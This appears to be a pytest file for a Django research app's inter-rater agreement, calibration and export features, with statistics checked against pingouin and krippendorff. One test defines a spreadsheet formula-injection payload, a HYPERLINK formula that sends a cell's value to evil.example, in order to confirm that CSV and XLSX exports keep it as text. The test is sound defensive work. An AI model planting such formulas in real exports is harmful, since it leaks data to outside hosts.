"""Agreement and calibration pages, and their exports read back."""

import csv
import io
import re

import krippendorff
import pandas as pd
import pingouin
import pytest
from django.template.defaultfilters import floatformat
from django.urls import reverse
from openpyxl import load_workbook

from allianse.rating import agreement, consents, services
from allianse.rating.models import Assignment
from tests.conftest import make_user

from .conftest import full_answers

# Three raters of four segments: rater3 rates one point higher than rater1, rater2 varies.
LEVELS = {"rater1": [2, 4, 5, 6], "rater2": [3, 4, 4, 7], "rater3": [3, 5, 6, 7]}
REFERENCE = [2, 4, 5, 6]
SEGMENT_NAMES = ["Opening", "Part 3", "Part 6", "Part 9"]
EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"open")'


def expected_icc(form: str) -> float:
    """An ICC of the LEVELS ratings by pingouin, an implementation independent of the core's.
    Every item is rated alike, so every item (and the summary score) has this value."""
    long = pd.DataFrame(
        [(segment, name, value) for name, values in LEVELS.items() for segment, value in enumerate(values)],
        columns=["segment", "rater", "value"],
    )
    table = pingouin.intraclass_corr(long, targets="segment", raters="rater", ratings="value")
    return float(table.set_index("Type").loc[form, "ICC"])


def expected_interval(form: str) -> tuple[float, float]:
    """pingouin's 95% interval of an ICC of the LEVELS ratings (pingouin rounds it to two decimals)."""
    long = pd.DataFrame(
        [(segment, name, value) for name, values in LEVELS.items() for segment, value in enumerate(values)],
        columns=["segment", "rater", "value"],
    )
    table = pingouin.intraclass_corr(long, targets="segment", raters="rater", ratings="value")
    lower, upper = table.set_index("Type").loc[form, "CI95"]
    return float(lower), float(upper)


SINGLE, AVERAGE = "ICC(A,1)", "ICC(A,k)"  # pingouin's names of ICC(2,1) and ICC(2,k)


def expected_alpha() -> float:
    """Krippendorff's alpha (interval) of the LEVELS ratings by the krippendorff package."""
    return float(krippendorff.alpha(reliability_data=list(LEVELS.values()), level_of_measurement="interval"))


def expected_against_others(name: str) -> float:
    """A rater's mean difference from the mean of the other raters of the same segment."""
    others = [values for other, values in LEVELS.items() if other != name]
    differences = [mine - sum(o[i] for o in others) / len(others) for i, mine in enumerate(LEVELS[name])]
    return sum(differences) / len(differences)


@pytest.fixture
def rated_study(study, recording, therapist, leader, rater, second_rater):
    third = make_user("rater3", "rater")
    raters = {"rater1": rater, "rater2": second_rater, "rater3": third}
    segments = [study.segments.get()] + [
        services.add_segment(recording=recording, name=f"Part {n}", start_seconds=n, end_seconds=n + 2, by=therapist)
        for n in (3, 6, 9)
    ]
    for segment in segments[1:]:
        services.add_to_study(study=study, segment=segment)
    for index, segment in enumerate(segments):
        for name, user in raters.items():
            (assignment,) = services.assign(study=study, segments=[segment], raters=[user], kind="rater", by=leader)
            entered = services.RatingInput(answers=full_answers(LEVELS[name][index]))
            services.submit_rating(assignment=assignment, entered=entered, by=user)
        (reference,) = services.assign(study=study, segments=[segment], raters=[leader], kind="expert", by=leader)
        entered = services.RatingInput(answers=full_answers(REFERENCE[index]))
        services.submit_rating(assignment=reference, entered=entered, by=leader)
    return study


def test_the_agreement_matches_independent_implementations(rated_study):
    result = agreement.study_agreement(rated_study, "en")
    assert result.raters == ["rater1", "rater2", "rater3"] and result.segments == 4
    for key in ("i01_adherence", "global_quality", "score:quality"):
        row = next(row for row in result.rows if row.key == key)
        assert row.single["value"] == pytest.approx(expected_icc(SINGLE))
        assert row.average["value"] == pytest.approx(expected_icc(AVERAGE))
        assert row.entry["alpha"] == pytest.approx(expected_alpha())


def test_the_page_says_what_the_numbers_mean(leader_client, rated_study):
    response = leader_client.get(reverse("rating:agreement", args=[rated_study.public_id]), HTTP_ACCEPT_LANGUAGE="en")
    page = response.content.decode()
    single, average = expected_icc(SINGLE), expected_icc(AVERAGE)
    assert response.status_code == 200
    assert single >= 0.75 and average >= 0.75  # Cicchetti (1994): excellent, by the estimate alone
    # but four segments give intervals reaching far below .75: no band is named (methods.md#agreement-bands)
    uncertain = "uncertain: the 95% interval spans more than one band"
    assert f"{single:.2f}: {uncertain}" in page and f"{average:.2f}: {uncertain}" in page
    assert "band-excellent" not in page
    shown = [tuple(map(float, pair)) for pair in re.findall(r"95% interval (-?[\d.]+) to (-?[\d.]+)", page)]
    assert shown[0] == pytest.approx(expected_interval(SINGLE), abs=0.006)  # the quality score's row
    assert shown[1] == pytest.approx(expected_interval(AVERAGE), abs=0.006)
    assert "N = 4" in page
    assert "4 segments, 3 raters." in page
    assert "Each rater against the others" in page and "<svg" in page
    for name in LEVELS:
        shown = floatformat(expected_against_others(name), 2)  # the page rounds half away from zero
        calibration = r'<a href="/rating/studies/[-0-9a-f]+/raters/[-0-9a-f]+/">'  # each rater's ratings in detail
        assert re.search(rf"<td>{calibration}{name}</a></td><td>\d+</td><td>{shown}</td>", page), name
    assert "Where two raters differ most" in page


def test_reference_ratings_are_not_counted_as_raters(rated_study):
    assert "leader" not in agreement.study_agreement(rated_study, "en").raters


def test_a_rater_cannot_see_the_agreement_page(rater_client, rated_study):
    assert rater_client.get(reverse("rating:agreement", args=[rated_study.public_id])).status_code == 404


def test_the_kept_analysis_follows_every_new_rating(rated_study, leader):
    assert agreement.study_agreement(rated_study, "en").raters == ["rater1", "rater2", "rater3"]
    fourth = make_user("rater4", "rater")
    for index, segment in enumerate(rated_study.segments.order_by("pk")):
        (assignment,) = services.assign(study=rated_study, segments=[segment], raters=[fourth], kind="rater", by=leader)
        entered = services.RatingInput(answers=full_answers(LEVELS["rater1"][index]))
        services.submit_rating(assignment=assignment, entered=entered, by=fourth)
    assert agreement.study_agreement(rated_study, "en").raters == ["rater1", "rater2", "rater3", "rater4"]


def test_the_kept_chart_and_ratings_follow_every_new_rating(rated_study, leader):
    first = agreement.study_agreement(rated_study, "en")
    assert agreement.study_agreement(rated_study, "en").chart_svg == first.chart_svg
    assert set(first.frame["rater"]) == {"rater1", "rater2", "rater3"}
    fourth = make_user("rater4", "rater")
    segment = rated_study.segments.order_by("pk").first()
    (assignment,) = services.assign(study=rated_study, segments=[segment], raters=[fourth], kind="rater", by=leader)
    services.submit_rating(assignment=assignment, entered=services.RatingInput(answers=full_answers(1)), by=fourth)
    result = agreement.study_agreement(rated_study, "en")
    assert "rater4" in result.chart_svg and "rater4" not in first.chart_svg
    assert set(result.frame["rater"]) == {"rater1", "rater2", "rater3", "rater4"}


def test_segments_whose_consent_was_withdrawn_are_left_out(rated_study, consent, therapist):
    assert agreement.study_agreement(rated_study, "en").segments == 4  # kept until the consent goes
    consents.withdraw_consent(consent=consent, by=therapist)
    result = agreement.study_agreement(rated_study, "en")
    assert result.segments == 0 and result.blocked_segments == 4


class TestExports:
    def test_the_items_csv_reads_back(self, leader_client, rated_study):
        url = reverse("rating:export", args=[rated_study.public_id, "items", "csv"])
        response = leader_client.get(url)
        rows = list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
        first = next(row for row in rows if row["item"] == "i01_adherence")
        assert response["Content-Type"].startswith("text/csv") and response.streaming
        assert float(first["ICC2"]) == pytest.approx(expected_icc(SINGLE))
        assert float(first["ICC2k"]) == pytest.approx(expected_icc(AVERAGE))
        assert float(first["alpha_interval"]) == pytest.approx(expected_alpha())
        assert first["n_raters"] == "3" and first["n_segments"] == "4"
        assert {row["item"] for row in rows} >= {"global_quality", "score:quality"}

    def test_the_workbook_reads_back(self, leader_client, rated_study):
        response = leader_client.get(reverse("rating:export", args=[rated_study.public_id, "items", "xlsx"]))
        assert response.streaming  # sent in blocks from the file it was written to
        workbook = load_workbook(io.BytesIO(response.getvalue()))
        items, ratings = workbook["items"], workbook["ratings"]
        header = [cell.value for cell in items[1]]
        assert header[:4] == ["item", "label", "n_segments", "n_raters"]
        assert items.cell(row=2, column=1).value == "i01_adherence"
        icc2 = items.cell(row=2, column=header.index("ICC2") + 1).value
        assert icc2 == pytest.approx(expected_icc(SINGLE))
        assert [cell.value for cell in ratings[1]][:5] == ["segment", "segment_name", "rater", "item", "value"]
        adherence = {
            (segment_name, rater): value
            for _, segment_name, rater, item, value, *_ in ratings.iter_rows(min_row=2, values_only=True)
            if item == "i01_adherence"
        }
        assert adherence == {
            (segment_name, name): values[index]
            for name, values in LEVELS.items()
            for index, segment_name in enumerate(SEGMENT_NAMES)
        }

    @pytest.mark.parametrize("extension", ["csv", "xlsx"])
    def test_a_segment_name_that_looks_like_a_formula_stays_text(self, leader_client, rated_study, extension):
        rated_study.segments.filter(name="Part 3").update(name=EVIL)
        response = leader_client.get(reverse("rating:export", args=[rated_study.public_id, "ratings", extension]))
        if extension == "csv":
            rows = list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
            names, values = {row["segment_name"] for row in rows}, {row["value"] for row in rows}
        else:
            sheet = load_workbook(io.BytesIO(response.getvalue()))["ratings"]
            cells = [row[1] for row in sheet.iter_rows(min_row=2)]
            assert {cell.data_type for cell in cells} == {"s"}
            names, values = (
                {cell.value for cell in cells},
                {row[4] for row in sheet.iter_rows(min_row=2, values_only=True)},
            )
            assert all(isinstance(value, int) for value in values)
        assert f"'{EVIL}" in names and EVIL not in names

    def test_an_unknown_table_is_not_found(self, leader_client, rated_study):
        url = reverse("rating:export", args=[rated_study.public_id, "items", "csv"]).replace("items", "people")
        assert leader_client.get(url).status_code == 404

    def test_a_rater_cannot_export(self, rater_client, rated_study):
        url = reverse("rating:export", args=[rated_study.public_id, "ratings", "csv"])
        assert rater_client.get(url).status_code == 404


class TestCalibration:
    def test_a_rater_lenient_by_one_point_is_one_point_from_the_reference(self, rated_study):
        rater3 = Assignment.objects.get(study=rated_study, rater__username="rater3", segment__name="Opening").rater
        result = agreement.rater_calibration(rated_study, rater3, "en")
        assert list(result.table["mean_difference"]) == pytest.approx([1.0, 1.0, 1.0, 1.0])

    def test_the_kept_calibration_follows_a_corrected_reference(self, rated_study, leader):
        rater3 = Assignment.objects.get(study=rated_study, rater__username="rater3", segment__name="Opening").rater
        kept = agreement.rater_calibration(rated_study, rater3, "en")
        again = agreement.rater_calibration(rated_study, rater3, "en")
        assert again.chart_svg == kept.chart_svg and again.table.equals(kept.table)
        reference = services.current_rating(
            Assignment.objects.get(study=rated_study, kind="expert", segment__name="Opening")
        )
        entered = services.RatingInput(answers=full_answers(REFERENCE[0] + 1))
        services.correct_rating(rating=reference, entered=entered, reason="typo", by=leader)
        result = agreement.rater_calibration(rated_study, rater3, "en")
        assert list(result.table["mean_difference"]) == pytest.approx([0.0, 1.0, 1.0, 1.0])

    def test_the_rater_sees_their_own_calibration(self, rater_client, rated_study, rater):
        url = reverse("rating:calibration", args=[rated_study.public_id, rater.public_id])
        response = rater_client.get(url)
        assert response.status_code == 200 and "<svg" in response.content.decode()

    def test_a_rater_cannot_see_another_raters_calibration(self, rater_client, rated_study, second_rater):
        url = reverse("rating:calibration", args=[rated_study.public_id, second_rater.public_id])
        assert rater_client.get(url).status_code == 404

    def test_the_leader_sees_each_raters_calibration(self, leader_client, rated_study, second_rater):
        url = reverse("rating:calibration", args=[rated_study.public_id, second_rater.public_id])
        response = leader_client.get(url)
        assert response.status_code == 200
        rows = re.findall(
            r"<tr><td>[^<]*</td><td>([^<]+)</td><td>\d+</td><td>([^<]+)</td><td>([^<]+)</td><td>([^<]+)</td></tr>",
            response.content.decode(),
        )
        differences = [mine - reference for mine, reference in zip(LEVELS["rater2"], REFERENCE, strict=True)]
        assert rows == [
            (name, f"{difference:.2f}", f"{abs(difference):.2f}", "100 %")
            for name, difference in zip(SEGMENT_NAMES, differences, strict=True)
        ]
        assert "Calibration of rater2" in response.content.decode()
